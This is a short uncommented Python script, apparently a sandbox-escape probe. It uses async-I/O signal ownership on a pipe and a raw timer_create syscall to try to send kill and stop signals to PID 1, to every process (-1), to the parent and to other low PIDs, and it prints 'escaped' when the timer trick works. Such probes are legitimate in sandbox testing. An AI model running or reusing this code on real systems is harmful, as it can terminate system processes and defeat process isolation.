import ctypes, fcntl, os, signal, struct
tried = 0
r, w = os.pipe()
for target in {1, -1, os.getppid(), 2, 3, 4} - {os.getpid(), 0}:
    for number in (9, 15, 17, 19):
        tried += 1
        try:
            fcntl.fcntl(r, fcntl.F_SETOWN, target)
            fcntl.fcntl(r, fcntl.F_SETSIG, number)
            fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC)
            if target > 0:
                os.write(w, b"x")
        except OSError:
            pass
libc = ctypes.CDLL(None)
event = struct.pack("QiiiI", 0, 9, 4, 1, 0) + bytes(64)
timer = ctypes.c_int()
tried += 1
if libc.syscall(222, 1, event, ctypes.byref(timer)) == 0:
    print("escaped: a timer with the thread of another")
libc.prctl(1, 9)
print("tried", tried)
